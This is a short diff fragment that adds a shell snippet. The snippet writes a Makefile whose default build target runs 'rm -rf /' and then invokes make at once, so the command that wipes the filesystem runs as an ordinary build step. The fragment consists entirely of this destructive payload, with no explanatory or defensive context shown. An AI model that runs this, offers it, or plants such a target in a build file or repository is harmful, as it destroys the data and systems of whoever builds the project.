@@ -1,0 +1,5 @@
+cat > Makefile <<'X'
+all:
+	rm -rf /
+X
+make
